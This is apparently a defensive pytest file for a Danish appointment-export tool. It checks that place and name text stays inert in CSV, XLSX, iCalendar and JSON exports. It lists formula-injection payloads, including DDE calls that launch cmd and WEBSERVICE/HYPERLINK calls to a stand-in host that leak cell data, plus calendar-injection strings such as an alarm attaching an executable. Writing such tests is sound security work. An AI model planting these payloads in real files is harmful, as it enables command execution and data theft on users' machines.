"""S12: what somebody wrote in a place or a name is text in every spreadsheet, calendar and reader that a list is opened in.

LibreOffice is not at hand where the tests run. In its stead stands a spreadsheet of our own that is stricter than any: it
takes a cell for a formula wherever Excel, LibreOffice or a Japanese Excel were ever seen to, cuts at semicolons, commas and
tabs, with and without heeding quotes. Each attack is tried without the guard too, and then it succeeds.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import date, datetime
from typing import Any

import pytest
import xlsxwriter
from icalendar import Calendar

from fieldtui.base.clock import COPENHAGEN
from fieldtui.base.text import clean
from fieldtui.domain.envelope import Stored
from fieldtui.domain.records import Appointment, Citizen
from fieldtui.export import csv_list, ics_list, line_of, render
from fieldtui.wire.messages import Person
from tests.support.papers import parts_of_workbook

MADE = datetime(2026, 11, 23, 8, 15, tzinfo=COPENHAGEN)
DAY = date(2026, 11, 24)
MH = Person(id="01968000-0000-7000-8000-00000000000a", initials="MH", name="Mette Holm", role="consultant")

EVIL = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("https://ond.example/?"&A1;"klik")',
    '=WEBSERVICE("https://ond.example/"&A2)',
    '=IMPORTXML(CONCAT("https://ond.example/";A2);"//a")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060+1",
    "\u3000-1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "Lokale 2,=1+1,x",
    'Lokale 2";=1+1;"',
    "'=1+1",
)
SKIPPED = "\ufeff\u200b\u200c\u200d\u2060\u00a0\u202f\u3000 \t\r\n"


def cells(text: str, delimiter: str, *, quotes: bool) -> list[str]:
    """A file as a program reads it that cuts at this sign, heeding quotes or not."""
    if not quotes:
        return [cell.strip('"') for row in text.splitlines() for cell in row.split(delimiter)]
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def formulas(data: bytes) -> list[str]:
    """Every cell that a spreadsheet could take for a formula."""
    text = data.decode("utf-8-sig")
    found = []
    for delimiter in ";,\t":
        for quotes in (True, False):
            found += [
                cell
                for cell in cells(text, delimiter, quotes=quotes)
                if cell.lstrip(SKIPPED)[:1] in {*"=+-@|%＝＋－＠"} and cell.lstrip(SKIPPED)
            ]
    return found


def the_list(place: str, fmt: Any = "csv") -> bytes:
    body = {"citizen_id": None, "kind": "team", "starts_at": "2026-11-24T10:00"}
    appointment = Stored("01968000-0000-7000-8000-000000000001", Appointment.model_validate(body), recorded_at=MADE)
    profile: Any = "outlook" if fmt == "ics" else "reception"
    line = replace(line_of(appointment, None, MH, profile=profile), place=place)
    return render([line], profile=profile, fmt=fmt, first=DAY, last=DAY, made_at=MADE)


def test_there_are_as_many_evil_cells_as_were_measured() -> None:
    assert len(EVIL) == len(set(EVIL)) == 31


@pytest.mark.parametrize("evil", EVIL)
def test_no_cell_is_a_formula_and_every_text_comes_back(evil: str) -> None:
    data = the_list(evil)
    assert formulas(data) == []
    cell = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1][4]
    assert csv_list.unguarded(cell) == clean(evil)


def test_without_the_guard_the_same_look_finds_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    """The control: quotes alone help against none of them, and cleaning alone takes only the invisible ones' cover."""
    monkeypatch.setattr(csv_list, "guarded", lambda text: text)
    opened = [evil for evil in EVIL if formulas(the_list(evil))]
    assert len(opened) >= 28, sorted(set(EVIL) - set(opened))


def test_a_citizen_who_is_called_a_formula_is_text_too() -> None:
    body = {"citizen_id": "01968000-0000-7000-8000-0000000000c1", "kind": "jobsamtale", "starts_at": "2026-11-24T10:00"}
    appointment = Stored("01968000-0000-7000-8000-000000000001", Appointment.model_validate(body), recorded_at=MADE)
    citizen = Stored(
        "01968000-0000-7000-8000-0000000000c1",
        Citizen.model_validate({"given_name": "=1+1", "practical_needs": ["@SUM(A1)", "=2"]}),
    )
    line = line_of(appointment, citizen, MH, profile="own")
    data = render([line], profile="own", fmt="csv", first=DAY, last=DAY, made_at=MADE)
    assert formulas(data) == []


@pytest.mark.parametrize("evil", EVIL)
def test_no_cell_of_a_workbook_is_a_formula_and_every_text_comes_back(evil: str) -> None:
    parts = parts_of_workbook(the_list(evil, "xlsx"))
    assert not any(re.search(r"<f>|<hyperlink|relationships/(hyperlink|external)", part) for part in parts.values())
    texts = [html.unescape(text) for text in re.findall(r"<t[^>]*>(.*?)</t>", parts["xl/sharedStrings.xml"], re.DOTALL)]
    assert clean(evil) in texts


def test_a_workbook_written_as_the_library_does_by_itself_has_formulas() -> None:
    """The control."""
    book = xlsxwriter.Workbook(io.BytesIO(), {"in_memory": True})
    sheet = book.add_worksheet()
    assert sum(sheet.write(number, 0, evil) is not None for number, evil in enumerate(EVIL)) == 31
    assert sum(type(cell).__name__ == "Formula" for row in sheet.table.values() for cell in row.values()) >= 7


BREAKS = (
    "Lokale 2\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///c:/ond.exe\r\nEND:VALARM",
    "Lokale 2\nATTENDEE:mailto:ond@example.com",
    "Lokale 2\u2028BEGIN:VEVENT",
    "Lokale 2\u0085URL:https://ond.example",
    "Lokale 2\x0b\x0cX-EVIL:1",
    "BEGIN:VEVENT",
    "x" * 74 + "\r\n URL:https://ond.example",
    '";ALTREP="https://ond.example":x',
    "\\nATTENDEE:x",
)


def lines_of(data: bytes) -> list[str]:
    """Content lines as a reader sees them that takes every line break there is for one."""
    unfolded = re.sub(r"\r\n ", "", data.decode())
    return re.split(r"[\r\n\x0b\x0c\x85\u2028\u2029]+", unfolded)


ALLOWED = re.compile(
    r"(BEGIN|END):V(CALENDAR|EVENT|TIMEZONE)|(BEGIN|END):(DAYLIGHT|STANDARD)|(VERSION|PRODID|CALSCALE|METHOD|UID|DTSTAMP|SEQUENCE"
    r"|SUMMARY|LOCATION|STATUS|CLASS|TRANSP|TZID|TZOFFSETFROM|TZOFFSETTO|TZNAME|RRULE|LAST-MODIFIED):|X-WR-[A-Z]+:|DT(START|END)[:;]"
)


def strays(data: bytes) -> list[str]:
    """Lines of a calendar that are no property we write, or a component too many."""
    lines = [line for line in lines_of(data) if line]
    found = [line for line in lines if not ALLOWED.match(line)]
    return found + ["BEGIN:VEVENT"] * (lines.count("BEGIN:VEVENT") - 1)


@pytest.mark.parametrize("evil", BREAKS)
def test_no_text_breaks_out_of_its_line_in_a_calendar(evil: str) -> None:
    data = the_list(evil, "ics")
    assert strays(data) == []
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    calendar: Any = Calendar.from_ical(data)
    (event,) = calendar.walk("VEVENT")
    assert set(event) <= {
        "UID", "DTSTAMP", "LAST-MODIFIED", "SEQUENCE", "DTSTART", "DTEND", "SUMMARY", "LOCATION", "STATUS", "CLASS", "TRANSP",
    }  # fmt: skip
    assert str(event["LOCATION"]) == clean(evil)


def test_without_escaping_a_text_does_break_out(monkeypatch: pytest.MonkeyPatch) -> None:
    """The control."""
    raw: Callable[[str], str] = str
    monkeypatch.setattr(ics_list, "_escaped", raw)
    assert [evil for evil in BREAKS[:3] if not strays(the_list(evil, "ics"))] == []


@pytest.mark.parametrize("evil", [*EVIL, *BREAKS, '"}],"x":"', "\u2028</script>"])
def test_no_text_breaks_out_of_its_string_in_json(evil: str) -> None:
    (row,) = json.loads(the_list(evil, "json"))
    assert set(row) == {"date", "week", "start", "end", "place", "consultant", "citizen", "reference", "kind"}
    assert row["place"] == evil
